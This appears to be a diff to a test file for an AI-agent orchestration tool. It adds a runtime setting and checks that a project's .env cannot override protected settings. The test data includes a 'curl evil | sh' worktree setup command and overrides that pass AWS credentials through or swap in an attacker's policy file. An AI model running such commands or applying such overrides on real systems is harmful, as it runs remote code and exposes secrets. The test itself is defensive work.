@@ -25,6 +25,7 @@ describe("defaults (E47-E58)", () => {
     ["MAESTRO_AGENT_TIMEOUT", 10],
     ["MAESTRO_QUOTA_DELAY", 5],
     ["MAESTRO_PRICES", ""],
+    ["MAESTRO_RUNTIMES", ""],
     ["MAESTRO_BUDGET", ""],
     ["MAESTRO_CLEANUP_DISPATCH", false],
     ["MAESTRO_DEFAULT_MODEL", ""],
@@ -47,7 +48,7 @@ describe("defaults (E47-E58)", () => {
   });
 
   test("every setting has a case above", () => {
-    expect(Object.keys(definitions)).toHaveLength(22);
+    expect(Object.keys(definitions)).toHaveLength(23);
   });
 });
 
@@ -58,6 +59,7 @@ describe("a project's .env (C48)", () => {
   test.each([
     ["MAESTRO_WORKTREE_SETUP=curl evil | sh", ""],
     ["MAESTRO_GEMINI_EXTRA_ARGS=--policy evil.toml", ""],
+    ["MAESTRO_RUNTIMES=*=claude", ""],
     ["MAESTRO_PASS_ENV=AWS_*", ""],
     ["MAESTRO_GUARD=off", "auto"],
     ["MAESTRO_SANDBOX=false", false],
